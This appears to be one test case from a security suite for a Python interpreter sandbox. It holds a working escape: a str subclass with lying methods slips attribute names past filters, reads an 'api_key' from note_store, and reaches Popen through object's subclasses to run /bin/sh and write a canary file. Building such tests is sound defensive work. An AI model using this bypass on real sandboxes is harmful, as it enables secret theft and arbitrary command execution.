# id: 527
# name: str_subclass_lies_about_its_hash
# category: interpreter
# technique: a str subclass whose eq, hash, startswith and endswith lie, used as an attribute's name
# breach: file hostmem
# looks_like: CANARY_FILE is created
# baseline: inproc
class N(str):
    def startswith(self, *a): return False
    def endswith(self, *a): return False
    def split(self, *a): return ['x']
    def __str__(self): return 'x'
    def __getitem__(self, k): return 'x'
    def __contains__(self, k): return False
print(getattr(note_store, N('api_key')))
o = getattr(getattr((), N('__class__')), N('__base__'))
for c in getattr(o, N('__subclasses__'))():
    if c.__name__ == 'Popen':
        c(['/bin/sh', '-c', 'echo breach > ' + CANARY_FILE]).wait()
